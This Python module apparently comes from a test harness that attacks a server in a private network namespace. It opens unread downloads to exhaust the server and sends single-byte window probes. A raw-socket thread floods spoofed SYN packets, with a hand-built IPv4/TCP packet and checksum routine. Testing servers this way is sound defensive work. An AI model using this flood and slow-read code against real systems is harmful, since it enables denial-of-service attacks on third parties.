"""Attacks on a server at wire.FAR, from a private network namespace. Each ends by itself or with its process."""

import random
import socket
import struct
import threading
import time

import servers
import wire


def unread_download(receive_buffer=4096, most_segment=None):
    """A connection whose response, /large, is being sent but not read."""
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if most_segment:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, most_segment)
    s.settimeout(servers.PATIENCE)
    s.connect((wire.FAR, 80))
    s.sendall(b"GET /large HTTP/1.1\r\nHost: h\r\n\r\n")
    assert s.recv(1) == b"H"
    return s


def unread_downloads(count, **how):
    return [unread_download(**how) for _ in range(count)]


def unread_bytes(count):
    """Such connections, each of which then sends 25 single bytes, a frame each."""
    attackers = []
    for _ in range(count):
        s = unread_download()
        attackers.append(s)
        for _ in range(25):  # soon, for a window that was probed while it is shut takes no acknowledgement either
            s.send(b"G")
            time.sleep(0.001)
    return attackers


class Flood(threading.Thread):
    """SYNs from unused addresses (RFC 5737), through the gateway, with `pause` seconds between them."""

    def __init__(self, pause):
        super().__init__(daemon=True)
        self.pause, self.count, self.over = pause, 0, threading.Event()

    def run(self):
        dice = random.Random(1)
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
            while not self.over.wait(self.pause):
                source = socket.inet_aton(f"203.0.113.{dice.randrange(1, 255)}")
                s.sendto(syn(source, socket.inet_aton(wire.FAR), dice.randrange(1024, 65536), dice.getrandbits(32)), (wire.FAR, 0))
                self.count += 1

    def end(self):
        self.over.set()
        self.join()


def checksum(of):
    total = sum(struct.unpack(f"!{len(of) // 2}H", of))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, to, port, sequence):
    """An IPv4 packet: a SYN for port 80."""
    segment = struct.pack("!HHIIBBHHH", port, 80, sequence, 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = source + to + struct.pack("!BBH", 0, 6, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), 0, 0, 64, 6, 0, source, to) + segment
